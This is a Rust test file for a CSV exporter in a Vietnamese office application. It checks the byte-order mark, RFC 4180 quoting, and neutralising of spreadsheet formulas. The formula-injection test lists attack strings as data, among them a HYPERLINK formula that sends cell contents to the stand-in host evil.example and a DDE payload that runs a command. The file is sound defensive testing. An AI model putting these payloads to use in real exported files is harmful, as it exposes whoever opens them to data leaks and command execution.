//! CSV export: byte-order mark, RFC 4180 quoting read back by an independent reader, and formula
//! injection neutralised.

use chrono::NaiveDate;
use proptest::prelude::*;
use thidua_office::csv::{looks_like_formula, neutralise, write_csv, Cell, BOM};

/// Reads CSV bytes back with the `csv` crate (after checking and removing the BOM).
fn read(bytes: &[u8]) -> Vec<Vec<String>> {
    assert!(bytes.starts_with(BOM), "no byte-order mark");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(&bytes[BOM.len()..]);
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn date(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

#[test]
fn a_list_is_written_for_excel() {
    let bytes = write_csv(
        &["STT", "Họ và tên", "Ngày sinh", "Số tiền"],
        vec![
            vec![
                Cell::Int(1),
                Cell::text("Nguyễn Văn Đức"),
                Cell::Date(date(1985, 3, 5)),
                Cell::Money(5_000_000),
            ],
            vec![
                Cell::Int(2),
                Cell::text("Lò Thị Mai"),
                Cell::Empty,
                Cell::Money(-300_000),
            ],
        ],
    );
    let text = std::str::from_utf8(&bytes[BOM.len()..]).unwrap();
    assert_eq!(
        text,
        "STT,Họ và tên,Ngày sinh,Số tiền\r\n1,Nguyễn Văn Đức,05/03/1985,5000000\r\n2,Lò Thị Mai,,-300000\r\n"
    );
}

#[test]
fn fields_are_quoted_as_rfc_4180_says() {
    let nasty = [
        "Phòng Nội vụ, UBND thành phố",
        "Trường \"Chu Văn An\"",
        "dòng 1\ndòng 2",
        "dòng 1\r\ndòng 2",
        " khoảng trắng ",
        "",
        "\"",
        ",",
    ];
    let rows = nasty.iter().map(|s| vec![Cell::text(*s), Cell::Int(7)]);
    let back = read(&write_csv(&["A", "B"], rows));
    assert_eq!(back.len(), nasty.len() + 1);
    for (row, s) in back[1..].iter().zip(nasty) {
        assert_eq!(row, &vec![s.to_owned(), "7".to_owned()]);
    }
    let raw = String::from_utf8(write_csv(&["A"], [vec![Cell::text("a,b")]])).unwrap();
    assert!(raw.ends_with("\"a,b\"\r\n"), "{raw:?}");
}

#[test]
fn formulas_are_neutralised_with_a_quote() {
    let attacks = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")",
        "=1+1",
        "+1",
        "-2",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ];
    let rows = attacks.iter().map(|s| vec![Cell::text(*s)]);
    let bytes = write_csv(&["=Tiêu đề"], rows);
    let back = read(&bytes);
    assert_eq!(back[0], vec!["'=Tiêu đề".to_owned()]);
    for (row, attack) in back[1..].iter().zip(attacks) {
        assert_eq!(row[0], format!("'{attack}"));
        assert!(!looks_like_formula(&row[0]), "{:?}", row[0]);
    }
}

#[test]
fn ordinary_text_and_numbers_are_not_touched() {
    for s in [
        "Nguyễn Văn A",
        "a=b",
        "5 - 2",
        "email@example.com",
        "'quoted",
        " -x",
    ] {
        assert_eq!(neutralise(s), s);
    }
    // Negative numbers stay numbers.
    let back = read(&write_csv(
        &["n"],
        [vec![Cell::Int(-5)], vec![Cell::Money(-1)]],
    ));
    assert_eq!(back[1], vec!["-5"]);
    assert_eq!(back[2], vec!["-1"]);
}

proptest! {
    #[test]
    fn any_text_reads_back_and_never_as_a_formula(cells in prop::collection::vec(".{0,12}", 1..5)) {
        let row: Vec<Cell> = cells.iter().map(|s| Cell::text(s.as_str())).collect();
        let back = read(&write_csv(&["x"], [row]));
        prop_assert_eq!(back.len(), 2);
        for (got, sent) in back[1].iter().zip(&cells) {
            prop_assert!(!looks_like_formula(got));
            let expected = if looks_like_formula(sent) { format!("'{sent}") } else { sent.clone() };
            prop_assert_eq!(got, &expected);
        }
    }
}
